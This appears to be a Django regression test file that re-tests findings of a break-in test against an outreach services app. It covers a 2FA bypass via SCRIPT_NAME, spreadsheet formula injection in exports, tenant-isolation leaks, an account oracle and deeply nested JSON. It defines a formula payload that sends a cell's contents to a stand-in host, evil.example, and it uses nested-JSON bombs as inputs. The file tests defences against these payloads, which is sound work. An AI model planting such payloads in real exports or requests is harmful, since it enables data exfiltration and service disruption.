"""What an outside break-in got through, tried again: each finding is one test class here.

The script-name bypass is also tried through a real gunicorn in ``test_break_in_gunicorn.py``.
"""

import csv
import io
import json
import re
import uuid

from django.contrib.auth import get_user_model
from django.test import TestCase, override_settings
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from wagtail.models import Revision
from wagtail.test.utils.form_data import inline_formset, nested_form_data

from cases.services import plan_step_add
from directory.models import ProblemReport, ServicePage
from outreach.models import Encounter
from outreach.services import person_merge
from referrals.models import FollowUp
from referrals.services import referral_create
from staff.accounts import staff_create_or_update
from staff.audit import audit_log
from staff.models import AuditEvent, Role
from tests.factories import (
    PASSWORD,
    EncounterFactory,
    LocationFactory,
    OrganizationPageFactory,
    PersonFactory,
    ReferralFactory,
    ServicePageFactory,
    ShiftAssignmentFactory,
    TeamFactory,
    encounter_json,
    home_page,
    make_assessment,
    make_screening,
    referral_data,
    staff,
)
from waypoint.security.middleware import PROTECTED_PREFIXES

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def body_of(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig", errors="replace")


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(body_of(response))))


def formula_cells(rows) -> list[str]:
    """Cells a spreadsheet would run as a formula (a number such as -72.68 is only a number)."""
    return [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
    ]


def post_json(client, url, body):
    data = body if isinstance(body, str) else json.dumps(body)
    return client.post(url, data=data, content_type="application/json")


@override_settings(WAYPOINT_REQUIRE_2FA=True)
class ScriptNameTests(TestCase):
    """A ``SCRIPT_NAME`` from the server (a proxy header) must not move a request out of the rules."""

    @classmethod
    def setUpTestData(cls):
        home_page()
        cls.team = TeamFactory()
        cls.responder = staff(Role.RESPONDER, team=cls.team)
        cls.referral = ReferralFactory(
            team=cls.team,
            created_by=cls.responder,
            person=PersonFactory(alias="Kestrel", created_by_team=cls.team),
        )

    def test_a_script_name_does_not_skip_the_second_factor(self):
        self.client.force_login(self.responder)  # the password only
        for path in ("/api/referrals", f"/api/referrals/{self.referral.pk}"):
            response = self.client.get(path, SCRIPT_NAME="/x")
            self.assertEqual(response.status_code, 403, path)
            self.assertEqual(response.json()["error"]["code"], "second_factor_required")
        for path in (
            "/outreach/people/",
            "/outreach/referrals/open/",
            f"/outreach/referrals/{self.referral.pk}/",
        ):
            response = self.client.get(path, SCRIPT_NAME="/x")
            self.assertEqual(response.status_code, 302, path)
            self.assertTrue(
                response["Location"].startswith("/account/2fa/setup/?next="), response["Location"]
            )
        self.assertFalse(
            AuditEvent.objects.filter(user=self.responder).exists(), "nothing was read"
        )

    def test_the_admin_policy_follows_the_routed_path(self):
        public = self.client.get("/search/", {"q": "shelter"}, SCRIPT_NAME="/admin")
        self.assertEqual(public.status_code, 200)
        self.assertNotIn("unsafe-inline", public["Content-Security-Policy"])
        admin = self.client.get("/admin/login/", SCRIPT_NAME="/x")
        self.assertEqual(admin.status_code, 200)
        self.assertIn("'unsafe-inline'", admin["Content-Security-Policy"])


class FormulaExportTests(TestCase):
    """Free text typed by staff or the public reaches supervisors' spreadsheets as text, never a formula."""

    @classmethod
    def setUpTestData(cls):
        cls.team = TeamFactory()
        cls.responder = staff(Role.RESPONDER, team=cls.team, username="-2+3")
        cls.supervisor = staff(Role.SUPERVISOR, team=cls.team)

    def log_encounter(self, **fields):
        self.client.force_login(self.responder)
        response = post_json(
            self.client,
            "/api/encounters",
            encounter_json(
                occurred_at="2026-01-05T21:05:00-05:00", neighbourhood=FORMULA, **fields
            ),
        )
        self.assertEqual(response.status_code, 201, response.content)
        self.client.force_login(self.supervisor)

    def test_figures_csv_carries_a_neighbourhood_formula_as_text(self):
        self.log_encounter()
        rows = csv_rows(
            self.client.get("/outreach/dashboard/figures.csv?start=2026-01-01&end=2026-01-31")
        )
        neighbourhoods = [
            figure for section, figure, _value in rows if section == "neighbourhood.contacts"
        ]
        self.assertEqual(neighbourhoods, ["'" + FORMULA])

    def test_no_export_carries_a_formula(self):
        self.log_encounter(
            person={"alias": "Gus"}
        )  # logged by "-2+3", a name the audit export shows
        period = "?start=2026-01-01&end=2026-01-31"
        for url in (
            "/outreach/dashboard/figures.csv" + period,
            "/outreach/dashboard/hmis.csv" + period,
            "/outreach/dashboard/encounters-deidentified.csv" + period,
            "/account/audit/export.csv",
        ):
            with self.subTest(url=url):
                rows = csv_rows(self.client.get(url))
                self.assertGreater(len(rows), 1)
                self.assertEqual(formula_cells(rows), [])
        deidentified = csv_rows(
            self.client.get("/outreach/dashboard/encounters-deidentified.csv" + period)
        )
        self.assertIn("-72.685", deidentified[1])  # a negative number stays a number


class AdminExportTests(TestCase):
    """An anonymous problem report's note reaches the moderators' export (CSV and XLSX) as text,
    and so does a page title in Wagtail's own reports."""

    URL = "/admin/directory-reports/problems/"

    @classmethod
    def setUpTestData(cls):
        cls.service = ServicePageFactory(title="Night Beds")
        cls.moderator = staff_create_or_update("mod", role="moderator", password=PASSWORD).user

    def setUp(self):
        response = self.client.post(f"/services/{self.service.hsds_id}/report/", {"note": FORMULA})
        self.assertEqual(ProblemReport.objects.get().note, FORMULA, response.status_code)
        self.client.force_login(self.moderator)

    def test_csv(self):
        rows = csv_rows(self.client.get(self.URL, {"export": "csv"}))
        notes = [row[2] for row in rows[1:]]
        self.assertEqual(notes, ["'" + FORMULA])
        self.assertEqual(formula_cells(rows), [])

    def test_xlsx(self):
        response = self.client.get(self.URL, {"export": "xlsx"})
        self.assertEqual(response.status_code, 200)
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertIn("'" + FORMULA, [cell.value for cell in cells])
        self.assertEqual([cell.value for cell in cells if cell.data_type == "f"], [])
        self.assertEqual(formula_cells([[cell.value for cell in cells]]), [])

    def test_wagtails_site_history(self):
        self.service.title = FORMULA  # a draft title, as a provider may type one
        self.service.save_revision(user=self.moderator, log_action=True)
        rows = csv_rows(self.client.get("/admin/reports/site-history/", {"export": "csv"}))
        self.assertIn("'" + FORMULA, [cell for row in rows for cell in row])
        self.assertEqual(formula_cells(rows), [])


class PageChooserTests(TestCase):
    """A provider's page chooser opens only its own organization's pages (and the way down to them)."""

    @classmethod
    def setUpTestData(cls):
        cls.home = home_page()
        cls.org_a = OrganizationPageFactory(title="Alpha Recovery Center")
        cls.org_b = OrganizationPageFactory(title="Bravo Shelter Network")
        cls.service_b = ServicePageFactory(title="Bravo Night Beds", parent=cls.org_b)
        for page, draft in (
            (cls.org_b, "Bravo SECRET ORG DRAFT"),
            (cls.service_b, "Bravo SECRET SERVICE DRAFT"),
        ):
            page.title = draft
            page.save_revision()
        cls.provider = staff_create_or_update(
            "provider-a", role="provider", password=PASSWORD, organization=cls.org_a
        ).user

    def setUp(self):
        self.client.force_login(self.provider)

    def test_another_organizations_page_is_not_opened(self):
        for page in (self.org_b, self.service_b):
            with self.subTest(page=page.pk):
                response = self.client.get(f"/admin/choose-page/{page.pk}/")
                self.assertEqual(response.status_code, 404)
                self.assertNotIn("Bravo", response.content.decode())
        chosen = self.client.get(
            "/admin/choose-page/chosen-multiple/", {"id": [self.org_b.pk, self.service_b.pk]}
        )
        self.assertNotIn("Bravo", chosen.content.decode())

    def test_its_own_pages_are_browsed_from_the_root(self):
        root = self.client.get("/admin/choose-page/").content.decode()
        self.assertIn(f"/admin/choose-page/{self.home.pk}/", root)
        home = self.client.get(f"/admin/choose-page/{self.home.pk}/").content.decode()
        self.assertIn("Alpha Recovery Center", home)
        self.assertNotIn("Bravo", home)
        own = self.client.get(f"/admin/choose-page/{self.org_a.pk}/")
        self.assertEqual(own.status_code, 200)
        self.assertIn("Alpha Recovery Center", own.content.decode())


class ProviderLocationTests(TestCase):
    """A provider's service form offers, and accepts, only its own organization's locations."""

    @classmethod
    def setUpTestData(cls):
        home_page()
        cls.org_a = OrganizationPageFactory(title="Alpha Recovery Center")
        cls.own = LocationFactory(organization=cls.org_a, name="Alpha Front Door")
        cls.other = LocationFactory(organization=OrganizationPageFactory(), name="Bravo Back Door")
        cls.unpublished = LocationFactory(
            organization=OrganizationPageFactory(live=False), name="Charlie Hidden Door"
        )
        cls.service = ServicePageFactory(title="Alpha Detox", parent=cls.org_a)
        cls.provider = staff_create_or_update(
            "provider-a", role="provider", password=PASSWORD, organization=cls.org_a
        ).user

    def setUp(self):
        self.client.force_login(self.provider)
        self.url = f"/admin/pages/{self.service.pk}/edit/"

    def edit(self, location, relation="service_at_locations"):
        form_class = ServicePage.get_edit_handler().get_form_class()
        data = {name: inline_formset([]) for name in form_class.formsets}
        data.update(
            {
                "title": "Alpha Detox",
                "slug": self.service.slug,
                "status": "active",
                relation: inline_formset([{"location": location.pk}]),
            }
        )
        return self.client.post(self.url, nested_form_data(data))

    def linked_in_a_revision(self, location, relation="service_at_locations"):
        return [
            rev.pk
            for rev in Revision.objects.filter(object_id=str(self.service.pk))
            if any(row.get("location") == location.pk for row in rev.content.get(relation, []))
        ]

    def test_only_its_own_locations_are_offered(self):
        page = self.client.get(self.url).content.decode()
        offered = {
            name: name in page
            for name in ("Alpha Front Door", "Bravo Back Door", "Charlie Hidden Door")
        }
        self.assertEqual(
            offered,
            {"Alpha Front Door": True, "Bravo Back Door": False, "Charlie Hidden Door": False},
        )

    def test_another_organizations_location_is_refused(self):
        for relation in ("service_at_locations", "contacts"):
            for location in (self.other, self.unpublished):
                with self.subTest(relation=relation, location=location.name):
                    response = self.edit(location, relation)
                    self.assertEqual(response.status_code, 200)  # the form again, with the error
                    self.assertEqual(self.linked_in_a_revision(location, relation), [])
            self.assertEqual(self.edit(self.own, relation).status_code, 302)
            self.assertTrue(self.linked_in_a_revision(self.own, relation))


class TeamMembersTests(TestCase):
    """``team_members`` on POST /api/encounters: the responder's own team only, and no oracle."""

    @classmethod
    def setUpTestData(cls):
        cls.team = TeamFactory()
        cls.responder = staff(Role.RESPONDER, team=cls.team)
        cls.teammate = staff(Role.RESPONDER, team=cls.team)
        cls.outsiders = [
            staff(Role.SUPERVISOR, team=TeamFactory()),
            staff(Role.RESPONDER, team=TeamFactory()),
            staff(Role.PROVIDER),
            staff(Role.MODERATOR),
        ]
        cls.inactive = staff(Role.RESPONDER, team=cls.team)
        get_user_model().objects.filter(pk=cls.inactive.pk).update(is_active=False)

    def setUp(self):
        self.client.force_login(self.responder)

    def post(self, *ids):
        return post_json(self.client, "/api/encounters", encounter_json(team_members=list(ids)))

    def test_own_team_is_accepted(self):
        response = self.post(self.teammate.pk)
        self.assertEqual(response.status_code, 201)
        self.assertEqual(response.json()["team_members"], [self.teammate.pk])

    def test_anyone_else_is_refused(self):
        for user in self.outsiders:
            with self.subTest(user=user.username):
                response = self.post(self.teammate.pk, user.pk)
                self.assertEqual(response.status_code, 400)
                self.assertIn("team_members", response.json()["error"]["fields"])
        self.assertFalse(Encounter.objects.exists())

    def test_an_active_account_answers_like_a_missing_one(self):
        missing = get_user_model().objects.order_by("-pk").first().pk + 1000
        answers = []
        for pk in (self.outsiders[0].pk, self.inactive.pk, missing):
            response = self.post(pk)
            answers.append(
                (response.status_code, json.dumps(response.json()).replace(str(pk), "N"))
            )
        self.assertEqual(answers[0][0], 400)
        self.assertEqual(answers[0], answers[1])
        self.assertEqual(answers[0], answers[2])

    def post_batch(self, *id_lists):
        """The list form (a backlog sent in one request): each item judged as if sent alone."""
        items = [encounter_json(team_members=list(ids)) for ids in id_lists]
        response = post_json(self.client, "/api/encounters", items)
        self.assertEqual(response.status_code, 200)
        return response.json()["results"]

    def test_the_list_form_applies_the_rule_to_each_item(self):
        results = self.post_batch(
            [self.teammate.pk], *([self.teammate.pk, user.pk] for user in self.outsiders)
        )
        self.assertEqual([r["status"] for r in results], [201] + [400] * len(self.outsiders))
        self.assertEqual(results[0]["record"]["team_members"], [self.teammate.pk])
        for result in results[1:]:
            self.assertIn("team_members", result["error"]["fields"])
        self.assertEqual(
            list(Encounter.objects.values_list("pk", flat=True)), [uuid.UUID(results[0]["id"])]
        )
        self.assertEqual(
            list(Encounter.objects.get().team_members.values_list("pk", flat=True)),
            [self.teammate.pk],
        )

    def test_the_list_form_is_no_oracle_either(self):
        missing = get_user_model().objects.order_by("-pk").first().pk + 1000
        pks = (self.outsiders[0].pk, self.inactive.pk, missing)
        results = self.post_batch(*([pk] for pk in pks))
        answers = [
            (r["status"], json.dumps(r["error"]).replace(str(pk), "N"))
            for r, pk in zip(results, pks, strict=True)
        ]
        self.assertEqual(answers[0][0], 400)
        self.assertEqual(answers[0], answers[1])
        self.assertEqual(answers[0], answers[2])


class NestedJsonTests(TestCase):
    """Deep nesting under the size limit is bad input (400 in the contracts' shape), not a 500."""

    DEEP = ("[" * 30_000 + "]" * 30_000, '{"a":' * 10_000 + "1" + "}" * 10_000)

    @classmethod
    def setUpTestData(cls):
        cls.team = TeamFactory()
        cls.responder = staff(Role.RESPONDER, team=cls.team)
        cls.referral = ReferralFactory(team=cls.team, created_by=cls.responder)

    def test_every_json_api(self):
        self.client.force_login(self.responder)
        for url in (
            "/api/encounters",
            "/api/screenings",
            "/api/referrals",
            f"/api/referrals/{self.referral.pk}/status",
        ):
            for body in self.DEEP:
                with self.subTest(url=url, body=body[:6]):
                    self.assertLess(len(body), 64 * 1024)
                    response = post_json(self.client, url, body)
                    self.assertEqual(response.status_code, 400)
                    error = response.json()["error"]
                    self.assertEqual(set(error), {"code", "message", "fields"})
                    self.assertEqual(error["code"], "invalid_json")
        self.assertFalse(Encounter.objects.exists())

    def test_deep_nesting_inside_a_batch(self):
        self.client.force_login(self.responder)
        for body in self.DEEP:
            with self.subTest(body=body[:6]):
                response = post_json(self.client, "/api/encounters", f"[{body}]")
                self.assertEqual(response.status_code, 400)
                self.assertEqual(response.json()["error"]["code"], "invalid_json")
        nested = encounter_json(notes=json.loads('{"a":' * 500 + "1" + "}" * 500))
        response = post_json(self.client, "/api/encounters", [nested])
        self.assertEqual(response.json()["results"][0]["status"], 400)
        self.assertFalse(Encounter.objects.exists())


class AuditedReadsTests(TestCase):
    """Every page, API and export that shows a person's data writes an audit event for each person shown."""

    @classmethod
    def setUpTestData(cls):
        cls.org = OrganizationPageFactory(title="Shelter A", email="intake@shelter-a.example.org")
        cls.service = ServicePageFactory(parent=cls.org, title="Night shelter")
        cls.team = TeamFactory(name="Unit 1")
        cls.other_team = TeamFactory(name="Unit 2")
        # With their role groups (and so the admin), as create_staff makes them.
        cls.supervisor, cls.responder, cls.provider = (
            staff_create_or_update(
                username, role=role, password=PASSWORD, team=team, organization=org
            ).user
            for username, role, team, org in (
                ("sup", Role.SUPERVISOR, cls.team, None),
                ("resp", Role.RESPONDER, cls.team, None),
                ("prov", Role.PROVIDER, None, cls.org),
            )
        )
        cls.kept = PersonFactory(alias="Kestrel", name="Ottilie Brandwyn", created_by_team=cls.team)
        cls.merged = PersonFactory(alias="Wren", name="Ysolde Marchetti", created_by_team=cls.team)
        cls.elsewhere = PersonFactory(
            alias="Osprey", name="Thaddeus Quillon", created_by_team=cls.other_team
        )
        cls.persons = (cls.kept, cls.merged, cls.elsewhere)
        cls.encounter = EncounterFactory(team=cls.team, responder=cls.responder, person=cls.kept)
        EncounterFactory(team=cls.team, responder=cls.responder, person=cls.merged)
        EncounterFactory(team=cls.other_team, person=cls.elsewhere)
        cls.merge = person_merge(user=cls.responder, source=cls.merged, target=cls.kept)
        cls.merged.refresh_from_db()
        cls.referral, _created = referral_create(
            user=cls.responder, data=referral_data(person=cls.kept, service=cls.service)
        )
        cls.problem = ProblemReport.objects.create(service=cls.service, note="phone rings out")
        screening = make_screening(team=cls.team, responder=cls.responder, person=cls.kept)
        assessment = make_assessment(team=cls.team, responder=cls.responder, person=cls.kept)
        # Route parameters of the walk below: the object each kind of URL is tried with.
        cls.kwargs = {
            "person_id": cls.kept.pk,
            "encounter_id": cls.encounter.pk,
            "referral_id": cls.referral.pk,
            "merge_id": cls.merge.pk,
            "follow_up_id": FollowUp.objects.filter(referral=cls.referral).first().pk,
            "user_id": cls.responder.pk,
            "screening_id": screening.pk,
            "assessment_id": assessment.pk,
            # The referral opened the person's case; the step is one of its plan.
            "case_id": cls.referral.follow_ups.first().case_id,
            "step_id": plan_step_add(
                user=cls.responder, case=cls.referral.follow_ups.first().case, text="Call back"
            ).pk,
        }
        cls.pks = {
            "admin/outreach_person/": cls.kept.pk,
            "admin/outreach_encounter/": cls.encounter.pk,
            "admin/outreach_auditevent/": audit_log(
                user=cls.supervisor, action="view_person", obj=cls.kept
            ).pk,
            "admin/outreach_shift/": ShiftAssignmentFactory(team=cls.team, user=cls.responder).pk,
            "provider/services/": cls.service.pk,
            "provider/reports/": cls.problem.pk,
        }

    def shown(self, response):
        body = body_of(response) if response.status_code == 200 else ""
        return [
            p for p in self.persons if any(mark in body for mark in (str(p.pk), p.alias, p.name))
        ]

    def assert_each_shown_is_audited(self, user, url):
        self.client.force_login(user)
        before = AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
        response = self.client.get(url)
        shown = self.shown(response)
        audited = set(
            AuditEvent.objects.filter(
                pk__gt=before, user=user, person_id__isnull=False
            ).values_list("person_id", flat=True)
        )
        # A record merged into another is that person now (its id lives on in merge details):
        # an event for the kept record covers it.
        missing = [p.alias for p in shown if not {p.pk, p.merged_into_id} & audited]
        self.assertEqual(
            missing, [], f"{user.username} GET {url} ({response.status_code}) showed them unaudited"
        )
        return shown

    def test_new_referral_page(self):
        # Without a service the page only points to search, and shows nobody.
        self.assertEqual(
            self.assert_each_shown_is_audited(self.responder, "/outreach/referrals/new/"), []
        )
        url = f"/outreach/referrals/new/?service={self.service.hsds_id}"
        shown = self.assert_each_shown_is_audited(self.responder, url)
        self.assertIn(self.kept, shown)  # the team's recent people
        url += f"&person={self.kept.pk}"
        self.assertIn(self.kept, self.assert_each_shown_is_audited(self.responder, url))

    def test_hmis_export_audits_every_person_in_it(self):
        self.client.force_login(self.supervisor)
        rows = csv_rows(self.client.get("/outreach/dashboard/hmis.csv"))
        in_file = {uuid.UUID(row[1]) for row in rows[1:]}
        self.assertEqual(in_file, {self.kept.pk, self.elsewhere.pk})
        audited = set(
            AuditEvent.objects.filter(action="export.hmis_csv").values_list("person_id", flat=True)
        )
        self.assertEqual(audited - {None}, in_file)

    def staff_urls(self):
        """Every GET-able staff URL (the second factor's prefixes), its parameters filled in."""

        def walk(patterns, prefix=""):
            for pattern in patterns:
                if isinstance(pattern, URLResolver):
                    yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
                elif isinstance(pattern, URLPattern):
                    yield prefix + str(pattern.pattern)

        def fill(route):
            def value(match):
                name = match.group(1)
                if name == "pk":
                    return str(
                        next(pk for start, pk in self.pks.items() if route.startswith(start))
                    )
                self.assertIn(name, self.kwargs, f"no test value for <{name}> in {route}: add one")
                return str(self.kwargs[name])

            return "/" + re.sub(r"<(?:\w+:)?(\w+)>", value, route)

        prefixes = tuple(p.lstrip("/") for p in PROTECTED_PREFIXES if p != "/admin/") + (
            "admin/outreach_",
        )
        return [
            fill(route) for route in walk(get_resolver().url_patterns) if route.startswith(prefixes)
        ]

    def test_every_staff_url_and_export(self):
        urls = self.staff_urls()
        self.assertGreater(len(urls), 60)
        # The pages that read ?person= are tried with it too (elsewhere it would only be echoed back).
        urls += [
            f"{url}?person={self.kept.pk}&service={self.service.hsds_id}"
            for url in (
                "/outreach/",
                "/outreach/referrals/new/",
                "/account/audit/",
                "/account/audit/export.csv",
            )
        ]
        seen = 0
        for user in (self.supervisor, self.responder, self.provider):
            for url in urls:
                with self.subTest(user=user.username, url=url):
                    seen += len(self.assert_each_shown_is_audited(user, url))
        self.assertGreater(seen, 40)  # the walk did see people
